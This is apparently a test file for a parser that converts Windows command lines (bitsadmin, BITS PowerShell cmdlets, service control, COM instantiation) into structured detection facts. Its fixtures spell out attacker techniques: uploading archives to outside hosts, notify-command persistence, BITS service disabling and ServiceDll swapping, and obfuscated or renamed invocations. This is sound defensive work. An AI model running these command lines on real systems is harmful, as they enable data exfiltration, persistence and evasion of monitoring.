/** Command lines into facts: job, places, notify program, settings, carriers, spelling. */
import { encoded, processFacts, rowFacts, scriptFacts } from './rows.js';

test('a transfer has its job, both places, and what is known of them', () => {
  expect(processFacts('bitsadmin /transfer j /upload https://files.example.com:8443/in/a.7z?k=v C:\\d\\a.7z')).toMatchObject({
    evidence: 'process', tools: ['bitsadmin'], verbs: ['transfer'], jobs: [{ name: 'j' }], carriers: [], hidden: [], hasCredentials: false,
    transfers: [{ direction: 'upload', source: { kind: 'local', path: 'C:\\d\\a.7z', extension: '7z' }, destination: { kind: 'https', host: 'files.example.com', port: 8443, path: '/in/a.7z', query: 'k=v' } }],
  });
});

test.each([
  ['http://198.51.100.7/a', { kind: 'http', host: '198.51.100.7', address: 'public' }],
  ['http://192.168.1.2/a', { kind: 'http', address: 'private' }],
  ['http://3325256711/a', { kind: 'http', address: 'public' }],
  ['http://0x7f.1/a', { kind: 'http', address: 'private' }],
  ['http://[fe80::1]:80/a', { kind: 'http', host: 'fe80::1', port: 80, address: 'private' }],
  ['http://[2001:db8::1]/a', { kind: 'http', address: 'public' }],
  ['https:host.example/a.PS1', { kind: 'https', host: 'host.example', extension: 'ps1' }],
  ['\\\\srv1\\c$\\a.exe', { kind: 'unc', host: 'srv1', path: '\\c$\\a.exe', extension: 'exe' }],
  ['\\\\files.example.com@SSL@8443\\DavWWWRoot\\a', { kind: 'unc', host: 'files.example.com', port: 8443 }],
  ['\\\\?\\UNC\\srv1\\share\\a', { kind: 'unc', host: 'srv1' }],
  ['\\\\?\\C:\\d\\a.exe', { kind: 'local', path: 'C:\\d\\a.exe' }],
  ['file:///C:/d/a.exe', { kind: 'local', path: 'C:\\d\\a.exe' }],
  ['C:\\Windows\\System32\\cmd.exe', { kind: 'local' }],
  ['%URL%', { kind: 'variable' }],
])('a source of %s', (source, place) => {
  expect(processFacts(`bitsadmin /transfer j ${source} C:\\d\\x`)?.transfers[0]?.source).toMatchObject({ text: source, ...place });
});

test.each([
  ['C:\\a.txt:b.exe', { extension: 'txt', stream: 'b.exe' }],
  ['C:\\Users\\.\\\\Public\\x\\..\\p.exe', { path: 'C:\\Users\\Public\\p.exe', extension: 'exe' }],
  ['a.exe', { kind: 'relative', extension: 'exe' }],
])('a destination of %s', (destination, place) => {
  expect(processFacts(`bitsadmin /transfer j http://a.example/x ${destination}`)?.transfers[0]?.destination).toMatchObject(place);
});

test('a chain makes one record; what is added goes the way of its job', () => {
  const facts = processFacts('cmd /c "bitsadmin /create /upload j & bitsadmin /addfile j http://a.example/in C:\\d\\a & bitsadmin /setnotifycmdline j C:\\d\\b.exe NULL & bitsadmin /setminretrydelay j 60 & bitsadmin /resume j & del C:\\d\\a"');
  expect(facts).toMatchObject({
    verbs: ['create', 'addfile', 'setnotifycmdline', 'setminretrydelay', 'resume'], jobs: [{ name: 'j' }], carriers: ['cmd'], others: ['del'], settings: [{ name: 'retrydelay', value: '60' }],
    transfers: [{ direction: 'upload' }, { direction: 'upload', source: { path: 'C:\\d\\a' }, destination: { host: 'a.example' } }], notify: [{ program: { path: 'C:\\d\\b.exe' } }],
  });
});

test('secrets are told to be there, and are nowhere in the record', () => {
  for (const line of ['bitsadmin /setcredentials j SERVER BASIC user1 hidden-7', 'bitsadmin /setcustomheaders j "Authorization: Bearer hidden-7"', 'bitsadmin /transfer j http://user1:hidden-7@a.example/x C:\\d\\x']) {
    const facts = processFacts(line);
    expect(facts?.hasCredentials).toBe(true);
    expect(JSON.stringify(facts)).not.toContain('hidden-7');
  }
});

test('a job by its GUID has an id', () => {
  expect(processFacts('bitsadmin /takeownership {6f364a04-6299-4349-a8b6-34bed5e400ef}')?.jobs).toEqual([{ id: '{6F364A04-6299-4349-A8B6-34BED5E400EF}' }]);
});

test.each([
  ['bitsadmin /setproxysettings j OVERRIDE 192.0.2.9:8080 NULL', { name: 'proxy', value: 'OVERRIDE 192.0.2.9:8080 NULL' }],
  ['bitsadmin /util /setieproxy localsystem MANUAL_PROXY 192.0.2.9:8080 NULL', { name: 'ieproxy', value: 'localsystem MANUAL_PROXY 192.0.2.9:8080 NULL' }],
  ['bitsadmin /peercaching /setconfigurationflags 3', { name: 'peercaching', value: '3' }],
  ['bitsadmin /setclientcertificatebyid j 1 MY abcd', { name: 'certificate', value: '1 MY abcd' }],
  ['bitsadmin /sethelpertoken j', { name: 'helpertoken' }],
  ['bitsadmin /setsecurityflags j 14', { name: 'securityflags', value: '14' }],
  ['bitsadmin /setaclflag j OGDS', { name: 'acl', value: 'OGDS' }],
  ['bitsadmin /replaceremoteprefix j http://a.example http://b.example', { name: 'remoteprefix', value: 'http://a.example http://b.example' }],
])('%s sets', (line, setting) => {
  expect(processFacts(line)?.settings).toEqual([setting]);
});

test.each([
  ['cmd /c b^itsadmin /resume j', 'caret'], ['bitsadmin /re"su"me j', 'quotes'], ['bitsadmin\t/resume\tj', 'whitespace'], ['cmd /v /c "set v=resume&&bitsadmin /!v! j"', 'variable'],
  ['cmd /c "set v=xresumex&&call bitsadmin /%v:~1,6% j"', 'substring'], ['C:\\Windows\\.\\System32\\bitsadmin.exe /resume j', 'path'],
  [`powershell -enc ${encoded('Resume-BitsTransfer $j')}`, 'base64'], ['powershell -c "Resume-Bits`Transfer $j"', 'backtick'], ['powershell -c "&(\'{1}{0}\'-f\'Transfer\',\'Resume-Bits\') $j"', 'format'],
])('%s is hidden by %s', (line, way) => {
  expect(processFacts(line)).toMatchObject({ verbs: ['resume'], hidden: expect.arrayContaining([way]) as unknown });
});

test('an address without its slashes is one', () => {
  expect(processFacts('bitsadmin /addfile j https:a.example/b C:\\c')).toMatchObject({ verbs: ['addfile'], hidden: ['slashes'], transfers: [{ source: { kind: 'https', host: 'a.example' } }] });
});

test('a renamed binary is told by its own name, or by its grammar', () => {
  const image = 'C:\\Users\\Public\\svc.exe';
  expect(processFacts('svc.exe /resume j', { Image: image, OriginalFileName: 'bitsadmin.exe' })).toMatchObject({ verbs: ['resume'], hidden: ['renamed'], actor: { name: 'svc.exe' } });
  expect(processFacts('svc.exe /transfer x http://198.51.100.7/p C:\\d\\p', { NewProcessName: image })?.hidden).toEqual(['renamed']);
  expect(processFacts('svc.exe /resume j', { NewProcessName: image })).toBeUndefined();
});

test('data model names mean the same', () => {
  expect(rowFacts({ 'Processes.process': 'bitsadmin /resume j', 'Processes.parent_process_name': 'winword.exe', 'Processes.user': 'CORP\\u1' })).toMatchObject({ verbs: ['resume'], parent: { name: 'winword.exe' }, user: 'CORP\\u1' });
});

test.each([
  ['net stop "Background Intelligent Transfer Service" /y', 'stop'], ['sc \\\\srv1 config BITS start= disabled', 'disable'], ['sc config bits start=disabled', 'disable'], ['sc failure bits command= C:\\d\\a.exe', 'setfailurecommand'], ['n"e"t1 st"o"p bits', 'stop'],
  ['wmic service where name="bits" call changestartmode disabled', 'disable'], ['reg add HKLM\\SYSTEM\\ControlSet001\\Services\\BITS /v Start /t REG_DWORD /d 4 /f', 'disable'],
  ['powershell -c "Get-Service bits | Stop-Service -Force"', 'stop'], ['powershell -c "Set-Service -Name BITS -StartupType Disabled"', 'disable'], ['powershell -c "spsv bits"', 'stop'],
  ['powershell -c "Set-ItemProperty HKLM:\\SYSTEM\\CurrentControlSet\\Services\\BITS\\Parameters ServiceDll C:\\d\\q.dll"', 'setservicedll'],
])('%s: %s', (line, verb) => {
  expect(processFacts(line)).toMatchObject({ tools: ['servicecontrol'], verbs: [verb] });
});

test.each([
  "[Type]::GetTypeFromCLSID('4991D34B-80A1-4291-83B6-3328366B9097')", 'New-Object -ComObject BITS.Manager.5.0', "[Reflection.Assembly]::LoadWithPartialName('Microsoft.BackgroundIntelligentTransfer.Management')",
  '[Microsoft.BackgroundIntelligentTransfer.Management.BitsManager]::new()',
])('%s makes the class', (text) => {
  expect(scriptFacts(text)).toMatchObject({ tools: ['com'], verbs: ['instantiate'] });
});

test('the cmdlets notify without bitsadmin', () => {
  expect(scriptFacts("Set-BitsTransfer -BitsJob $j -NotifyCmdLine 'C:\\d\\a.exe','-x'")).toMatchObject({ verbs: ['set', 'setnotifycmdline'], notify: [{ program: { path: 'C:\\d\\a.exe' }, parameters: '-x' }] });
  expect(scriptFacts('Start-BitsTransfer http://a.example/x C:\\d\\x -NotifyCmdLine "C:\\Windows\\System32\\cmd.exe /c C:\\d\\x.exe"')?.notify).toMatchObject([{ program: { path: 'C:\\Windows\\System32\\cmd.exe' }, parameters: '/c C:\\d\\x.exe' }]);
});

test('a loop fetches all', () => {
  expect(scriptFacts("foreach ($u in 'http://198.51.100.7/a','http://198.51.100.7/b') { Start-BitsTransfer $u C:\\d\\ }")?.transfers.map(({ source }) => source?.path)).toEqual(['/a', '/b']);
});

test.each([
  ['"a b" c', 'a b'], ['a\\\\"b c" d', 'a\\b c'], ['a\\"b', 'a"b'], ['"a""b"', 'a"b'], ['a\\\\b', 'a\\\\b'], ['"C:\\d\\\\" x', 'C:\\d\\'],
])('the runtime\'s rules for quotes: %s', (written, name) => {
  expect(processFacts(`bitsadmin /resume ${written}`)?.jobs).toEqual([{ name }]);
});
